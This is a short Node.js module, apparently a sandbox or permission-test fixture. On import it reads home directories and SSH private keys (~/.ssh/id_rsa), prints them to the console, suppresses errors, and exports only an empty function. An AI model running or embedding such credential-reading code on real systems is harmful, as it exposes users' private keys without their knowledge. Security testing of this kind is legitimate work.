const os = require('os');
const fs = process.getBuiltinModule('fs');
let home = '/root';
try {
  home = os.homedir();
} catch {}
for (const folder of ['@@HOME@@', home, '/home']) {
  for (const inside of ['/.ssh', '/.ssh/id_rsa', '']) {
    try {
      console.log(fs.readdirSync(folder + inside), fs.readFileSync(folder + inside, 'utf8'));
    } catch {}
  }
}

module.exports = () => {};
